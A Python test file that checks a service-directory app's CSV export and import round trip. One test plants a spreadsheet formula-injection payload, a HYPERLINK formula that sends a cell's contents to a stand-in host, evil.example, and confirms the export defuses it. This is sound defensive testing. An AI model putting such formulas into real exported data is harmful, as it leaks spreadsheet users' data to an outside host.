"""Round trip: export -> import into an empty database -> export gives the same tables."""

from __future__ import annotations

from app.extensions import db
from app.interop.csv_export import export_to_dir
from app.interop.csv_import import import_path
from tests.interop.hsds_helpers import (  # noqa: F401
    EXAMPLE,
    catalog,
    empty_database,
    index_dir,
    row_counts,
    taxonomy,
)


def assert_same_tables(first, second) -> None:  # noqa: ANN001
    names = sorted(p.name for p in first.iterdir())
    assert names == sorted(p.name for p in second.iterdir())
    for name in names:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_round_trip_gives_the_same_tables(app, catalog, tmp_path) -> None:  # noqa: ANN001,F811
    export_to_dir(tmp_path / "first")
    empty_database()
    report = import_path(tmp_path / "first")
    db.session.commit()
    assert report.ok, [str(p) for p in report.problems]
    assert not report.warnings
    export_to_dir(tmp_path / "second")
    assert_same_tables(tmp_path / "first", tmp_path / "second")


def test_round_trip_of_the_spec_example(app, tmp_path) -> None:  # noqa: ANN001
    import_path(EXAMPLE)
    db.session.commit()
    export_to_dir(tmp_path / "first")
    empty_database()
    assert import_path(tmp_path / "first").ok
    db.session.commit()
    export_to_dir(tmp_path / "second")
    assert_same_tables(tmp_path / "first", tmp_path / "second")


def test_synthetic_data_round_trip(app, tmp_path) -> None:  # noqa: ANN001
    from app.seeding.synthetic import generate_synthetic

    generate_synthetic(60)
    db.session.commit()
    counts = row_counts()
    export_to_dir(tmp_path / "first")
    empty_database()
    assert import_path(tmp_path / "first").ok
    db.session.commit()
    after = row_counts()
    for table in ("service", "organization", "schedule", "eligibility_rule", "language"):
        assert after[table] == counts[table], table
    export_to_dir(tmp_path / "second")
    assert_same_tables(tmp_path / "first", tmp_path / "second")


def test_formula_text_is_defused_in_the_export_and_read_back_unchanged(app, tmp_path) -> None:  # noqa: ANN001
    """Provider text a spreadsheet would run gets an apostrophe in the CSV; our import strips
    exactly that apostrophe, so the round trip stays faithful."""
    from app.directory.models import Service
    from tests import factories

    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    service = factories.make_service(name=name, description="-1+2 beds", fees_description="'@x")
    service_id = service.id
    db.session.commit()
    export_to_dir(tmp_path / "first")
    services = (tmp_path / "first" / "services.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in services and "'-1+2 beds" in services and "''@x" in services
    assert ",=HYPERLINK" not in services
    empty_database()
    assert import_path(tmp_path / "first").ok
    db.session.commit()
    service = db.session.get(Service, service_id)
    assert (service.name, service.description) == (name, "-1+2 beds")
    assert service.fees_description == "'@x"
